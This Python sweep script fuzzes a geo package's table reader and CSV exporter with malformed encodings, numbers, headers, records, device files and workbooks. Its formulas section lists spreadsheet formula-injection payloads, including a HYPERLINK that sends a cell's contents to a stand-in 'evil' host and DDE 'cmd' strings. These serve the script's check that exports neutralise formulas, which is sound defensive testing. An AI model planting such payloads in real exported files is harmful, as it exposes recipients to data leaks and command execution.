"""Hostile-input sweep of table reading and CSV exports (issue 9): generated inputs per category, counted as
refused (a one-line GeoInputError), read right, traceback (any other exception) or silent wrong result.

    PYTHONPATH=. python tests/tools/hostile_tables.py [--seed 9]

Not a test (it takes a few minutes); the tests in tests/test_tables_*.py and tests/test_exports_safe_csv.py keep
each case. Prints one line per category and exits 1 if any traceback or silent wrong result was seen.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import random
import tempfile
import warnings
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pandas as pd

from geo.errors import GeoInputError
from geo.exports import export
from geo.exports.safe_csv import is_formula
from geo.tables import read_table

NAMES_RU = [
    "Костанайская область",
    "Омская область",
    "Актюбинская область",
    "Оренбургская область",
    "Атырауская область",
]
CODES = ["KZ-39", "KZ-15", "KZ-27", "KZ-23", "KZ-11", "KZ-55", "RU-ORE", "RU-OMS", "RU-AST", "RU-SAM"]
STYLES = {
    "ru": ("\u00a0", ","),
    "sp": (" ", ","),
    "en": (",", "."),
    "de": (".", ","),
    "ch": ("'", "."),
    "pl": ("", "."),
}


class Sweep:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.counts: dict[str, Counter] = {}
        self.examples: dict[str, list[str]] = {}
        self.n = 0

    def path(self, data: str | bytes, suffix: str = ".csv") -> Path:
        self.n += 1
        p = self.folder / f"t{self.n}{suffix}"
        p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return p

    def run(self, category: str, what: str, fn: Callable[[], str]) -> None:
        """``fn`` returns "read", "refused" or "wrong: …"; GeoInputError counts as refused."""
        counter = self.counts.setdefault(category, Counter())
        try:
            outcome = fn()
        except GeoInputError as exc:
            outcome = "refused" if len(str(exc).splitlines()) == 1 else f"wrong: multi-line error {exc}"
        except Exception as exc:  # the point is to count them
            outcome = f"traceback: {type(exc).__name__}: {exc}"
        kind = outcome.split(":")[0]
        counter[kind] += 1
        if kind in ("traceback", "wrong"):
            self.examples.setdefault(category, []).append(f"{what}: {outcome[:200]}")


def encodings(s: Sweep, rng: random.Random) -> None:
    text = "region,v\n" + "".join(f"{n},{i}\n" for i, n in enumerate(NAMES_RU))
    for _ in range(500):
        raw = bytearray(text.encode())
        for _ in range(rng.randint(1, 3)):
            raw.insert(rng.randrange(len(raw)), rng.randint(0x80, 0xFF))

        def stray(raw: bytes = bytes(raw)) -> str:
            _, report = read_table(s.path(raw), unique=False)
            if "read as cp1251" in report.notes:
                return "wrong: a UTF-8 file read as cp1251"
            return "read"

        s.run("encodings", repr(bytes(raw)[:40]), stray)
    for k in range(50):
        names = rng.sample(NAMES_RU, 3)

        def cp1251(names: list[str] = names, k: int = k) -> str:
            df, _ = read_table(s.path(("region,v\n" + "".join(f"{n},{k}\n" for n in names)).encode("cp1251")))
            return "read" if df["region"].tolist() == names else "wrong: cp1251 names changed"

        s.run("encodings", "cp1251", cp1251)
    for word in ["Café", "Zürich", "naïve", "Ørsted", "señor", "Łódź"]:
        for enc in ("latin-1", "cp1250"):
            try:
                raw = f"region,v,note\nOmsk,1,{word}\nAktobe,2,x\n".encode(enc)
            except UnicodeEncodeError:
                continue

            def latin(raw: bytes = raw) -> str:
                _, report = read_table(s.path(raw))
                return "wrong: Latin text read as cp1251" if "read as cp1251" in report.notes else "read"

            s.run("encodings", f"{word} {enc}", latin)


def numbers(s: Sweep, rng: random.Random) -> None:
    for _ in range(600):
        style = rng.choice(sorted(STYLES))
        delimiter = rng.choice([",", ";", "\t", "|", ":", " "])
        rows = []
        for code in rng.sample(CODES, 4):
            integer, decimals = rng.randint(0, 10**7), "".join(rng.choices("0123456789", k=rng.randint(0, 3)))
            thousands, dec = STYLES[style]
            digits = f"{integer:,}".replace(",", thousands) if thousands else str(integer)
            cell = digits + (f"{dec}{decimals}" if decimals else "")
            rows.append((code, cell, float(f"{integer}.{decimals}" if decimals else integer)))
        buffer = io.StringIO()
        writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
        writer.writerow(["region", "v"])
        writer.writerows([(c, cell) for c, cell, _ in rows])

        def styled(data: str = buffer.getvalue(), rows: list = rows, delimiter: str = delimiter) -> str:
            df, report = read_table(s.path(data), delimiter=delimiter)
            flagged = {r for i in report.non_numeric for r in i.rows}
            for k, (_, cell, want) in enumerate(rows, start=1):
                got = df["v"].iloc[k - 1] if "v" in report.numeric_columns else pd.NA
                if k not in flagged and (pd.isna(got) or abs(float(got) - want) > 1e-9 * max(1.0, abs(want))):
                    return f"wrong: {cell!r} read as {got} (want {want})"
            return "read"

        s.run("numbers", f"{style} {delimiter!r}", styled)
    for _ in range(300):
        digits = "".join(rng.choices("0123456789", k=rng.randint(3, 9)))
        cuts = sorted(rng.sample(range(1, len(digits)), rng.randint(1, min(3, len(digits) - 1))))
        parts = [digits[a:b] for a, b in zip([0, *cuts], [*cuts, len(digits)], strict=True)]
        cell = rng.choice([" ", "\u00a0", "'"]).join(parts)
        good = len(parts[0]) <= 3 and all(len(p) == 3 for p in parts[1:]) and not (parts[0].startswith("0"))

        def loose(cell: str = cell, good: bool = good, digits: str = digits) -> str:
            df, report = read_table(
                pd.DataFrame({"region": ["Omsk", "Aktobe", "Atyrau"], "v": [cell, "1", "2"]})
            )
            got = df["v"].iloc[0]
            if good:
                return "read" if got == float(digits) else f"wrong: {cell!r} -> {got}"
            return "refused" if pd.isna(got) and report.non_numeric else f"wrong: loose {cell!r} -> {got}"

        s.run("numbers", repr(cell), loose)


def headers(s: Sweep, rng: random.Random) -> None:
    for _ in range(150):
        names = rng.sample(["region", "value", "year", "v", "регион", "turnover"], 3)
        names.insert(rng.randrange(4), rng.choice(names) + rng.choice(["", " ", "  "]))
        data = ",".join(names) + "\n" + "Omsk,1,2,3\n"
        s.run(
            "headers",
            data[:40],
            lambda data=data: f"wrong: read {data!r}" if read_table(s.path(data)) else "",
        )
    for _ in range(150):
        codes = rng.sample(CODES + NAMES_RU, 3)
        delimiter = rng.choice([",", ";", "\t"])
        first = rng.random() < 0.5
        rows = [
            delimiter.join([c, str(rng.randint(0, 99))] if first else [str(rng.randint(0, 99)), c])
            for c in codes
        ]
        data = "\n".join(rows) + "\n"
        s.run(
            "headers",
            data[:40],
            lambda data=data: (
                f"wrong: read headerless {data!r}" if read_table(s.path(data), unique=False) else ""
            ),
        )


def records(s: Sweep, rng: random.Random) -> None:
    specials = ["\n", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", ",", ";", '""']
    for _ in range(200):
        rows = [[c, f"note {i}", str(i)] for i, c in enumerate(rng.sample(CODES, 6))]
        k = rng.randrange(len(rows))
        rows[k][1] = "a" + rng.choice(specials) + "b"
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows([["region", "note", "v"], *rows])

        def quoted(data: str = buffer.getvalue(), rows: list = rows) -> str:
            df, report = read_table(s.path(data))
            want = [r[1] for r in rows]
            return (
                "read"
                if df["note"].tolist() == want and report.ok
                else f"wrong: {df['note'].tolist()} != {want}"
            )

        s.run("records", repr(rows[k][1]), quoted)
    fifo = s.folder / "fifo.csv"
    os.mkfifo(fifo)
    link = s.folder / "zero.csv"
    link.symlink_to("/dev/zero")
    for target in [
        "/dev/zero",
        "/dev/null",
        "/dev/urandom",
        str(fifo),
        str(link),
        str(s.folder),
        "/proc/self/status",
    ]:
        s.run("files", target, lambda target=target: (read_table(target), "read")[1])
    for size in [32_767, 32_768, 1_000_000, 18_000_000]:
        data = "region,v\nOmsk,1\n" + "x" * size + ",2\n"
        want = "read" if size <= 32_767 else "refused"

        def big(data: str = data, want: str = want) -> str:
            _, report = read_table(s.path(data))
            return "read" if want == "read" and len(str(report)) < 2000 else "wrong: a huge cell was read"

        s.run("files", f"cell {size}", big)
    import pyarrow as pa
    import pyarrow.parquet as pq

    columns = {
        "list": pa.array([[1, 2], [3]]),
        "large_list": pa.array([[1], [2]], pa.large_list(pa.int64())),
        "struct": pa.array([{"a": 1}, {"a": 2}]),
        "map": pa.array([[("a", 1)], [("b", 2)]], pa.map_(pa.string(), pa.int64())),
        "binary": pa.array([b"x", b"y"]),
        "dictionary": pa.array(["a", "b"]).dictionary_encode(),
        "null": pa.array([None, None], pa.null()),
        "timestamp": pa.array([0, 1], pa.timestamp("s")),
    }
    for name, column in columns.items():
        path = s.folder / f"{name}.parquet"
        pq.write_table(pa.table({"region": ["Omsk", "Aktobe"], name: column, "v": [1, 2]}), path)
        s.run("files", f"parquet {name}", lambda path=path: (read_table(path), "read")[1])


def workbooks(s: Sweep, rng: random.Random) -> None:
    import openpyxl

    for k in range(60):
        titles = rng.randint(0, 4)
        two_rows = rng.random() < 0.5
        notes_first = rng.random() < 0.3
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = "Notes" if notes_first else "Data"
        if notes_first:
            ws.append(["About"])
            ws = wb.create_sheet("Data")
        for t in range(titles):
            ws.append([f"Title line {t}"] if t % 2 == 0 else [])
        if two_rows:
            ws.append(["Region", 2021, None])
            ws.append([None, "turnover", "exports"])
            ws.merge_cells(start_row=ws.max_row - 1, start_column=2, end_row=ws.max_row - 1, end_column=3)
            want = ["Region", "2021 turnover", "2021 exports"]
        else:
            ws.append(["Region", "turnover", "exports"])
            want = ["Region", "turnover", "exports"]
        values = [(c, rng.randint(0, 999), rng.randint(0, 999)) for c in rng.sample(NAMES_RU, 3)]
        for row in values:
            ws.append(list(row))
        path = s.folder / f"w{k}.xlsx"
        wb.save(path)

        def read(
            path: Path = path, want: list = want, values: list = values, notes_first: bool = notes_first
        ) -> str:
            try:
                df, report = read_table(path)
            except GeoInputError as exc:
                ok = notes_first and "--sheet 'Data'" in str(exc)
                return "refused" if ok else f"wrong: refused {exc}"
            got = [tuple(r) for r in df[want].itertuples(index=False)]
            return (
                "read"
                if list(df.columns[1:]) == want and got == values and report.ok
                else f"wrong: {df.columns.tolist()}"
            )

        s.run("workbooks", f"titles={titles} two_rows={two_rows} notes_first={notes_first}", read)


def formulas(s: Sweep, rng: random.Random) -> None:
    payloads = [
        '=HYPERLINK("http://evil/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
        "-5",
        "+3.5",
        "-",
        "plain",
        "'=already",
    ]
    regions = ["Aktobe", "Omsk", "Orenburg", "Kostanay", "Atyrau", "Astrakhan"]
    for k in range(10):
        table = pd.DataFrame({"region": regions})
        for j in range(8):
            table[f"t{j}"] = [rng.choice(payloads) + rng.choice(["", " x", "1"]) for _ in regions]
        table["n"] = [-5.0 - i for i in range(len(regions))]
        out = s.folder / f"export{k}"
        out.mkdir()

        def run(table: pd.DataFrame = table, out: Path = out) -> str:
            export(out, fmt="csv", layers=["regions"], data=table)
            back = pd.read_csv(out / "regions.csv", dtype=str, keep_default_na=False)
            for j in range(8):
                written = [v for v in back[f"t{j}"] if v]
                want = sorted(f"'{v}" if is_formula(v) else v for v in table[f"t{j}"])
                if sorted(written) != want or any(is_formula(v) for v in written):
                    return f"wrong: {sorted(written)} != {want}"
            return "read"

        s.run("csv formulas", f"export {k} ({8 * len(regions)} cells)", run)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--seed", type=int, default=9)
    args = parser.parse_args()
    warnings.simplefilter("ignore")
    rng = random.Random(args.seed)
    with tempfile.TemporaryDirectory() as tmp:
        s = Sweep(Path(tmp))
        for step in (encodings, numbers, headers, records, workbooks, formulas):
            step(s, rng)
    bad = 0
    for category, counter in s.counts.items():
        total = sum(counter.values())
        print(
            f"{category:13} inputs {total:4}  read right {counter['read']:4}  refused {counter['refused']:4}  "
            f"tracebacks {counter['traceback']}  silent wrong {counter['wrong']}"
        )
        for example in s.examples.get(category, [])[:5]:
            print(f"    {example}")
        bad += counter["traceback"] + counter["wrong"]
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
